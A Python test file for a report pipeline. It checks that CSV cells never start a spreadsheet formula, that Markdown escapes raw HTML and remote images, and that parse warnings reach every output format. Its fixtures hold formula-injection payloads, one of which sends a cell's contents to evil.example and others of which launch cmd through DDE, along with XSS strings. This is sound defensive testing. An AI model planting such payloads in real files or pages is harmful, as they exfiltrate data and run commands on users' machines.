"""Text from documents is data in every output: no spreadsheet formula, no raw HTML (#18 items 16, 17), and every
parse warning is shown (item 10)."""

from __future__ import annotations

import csv
import io
import zipfile

from pipeline.report.csv_report import write_csv
from pipeline.report.docx_report import write_docx
from pipeline.report.html import render_html
from pipeline.report.markdown import render_markdown
from tests.report.test_html import make_record

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _record_with(texts):
    record = make_record()
    for r, text in zip(record["requirements"], texts):
        r["text"] = r["statement"] = text
        r["actor"] = text
    return record


def test_csv_cells_never_start_a_formula(tmp_path):
    path = write_csv(_record_with(FORMULAS[:4]), tmp_path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [row[c] for row in rows for c in ("text", "actor")]
    assert cells, "no rows written"
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert rows[0]["text"] == "'" + FORMULAS[0]  # the text itself is kept, shown as text


def test_csv_keeps_ordinary_text_unchanged(tmp_path):
    path = write_csv(_record_with(["to report annually", "2.5 per cent"]), tmp_path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [r["text"] for r in rows[:2]] == ["to report annually", "2.5 per cent"]


def test_markdown_escapes_raw_html_and_remote_images():
    texts = ['to publish <script>alert("x")</script> now', 'see <img src=x onerror="alert(1)">',
             "look ![pixel](http://tracker.example/p.png) here", "<a href=\"javascript:alert(1)\">link</a>"]
    md = render_markdown(_record_with(texts))
    for raw in ("<script", "<img", "![pixel](", "<a href"):
        assert raw not in md, raw
    assert "&lt;script&gt;" in md and "&lt;img" in md


def test_every_parse_warning_reaches_html_word_and_markdown(tmp_path):
    record = make_record()
    record["report"]["warnings"] = ["page 7 could not be read and was skipped"]
    record["mandates"][0]["warnings"] = ["numbering definition(s) missing for numId 3: those numbers are not shown"]
    record["warnings"] = ["res-1390-copy.txt has the same content as res-1390.txt: read once"]
    html = render_html(record)
    md = render_markdown(record)
    with zipfile.ZipFile(write_docx(record, tmp_path)) as z:
        word = z.read("word/document.xml").decode("utf-8")
    for text in ("page 7 could not be read", "numbering definition(s) missing for numId 3", "read once"):
        assert text in html, text
        assert text in md, text
        assert text in word, text
